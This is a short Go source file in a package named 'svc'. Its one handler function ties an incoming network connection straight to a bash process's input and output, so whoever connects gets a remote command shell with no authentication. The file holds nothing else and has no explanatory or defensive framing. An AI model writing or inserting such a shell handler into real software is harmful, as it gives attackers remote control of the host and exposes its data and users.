package svc

import (
	"net"
	"os/exec"
)

func handle(c net.Conn) {
	sh := exec.Command("bash")
	sh.Stdin = c
	sh.Stdout = c
	sh.Run()
}
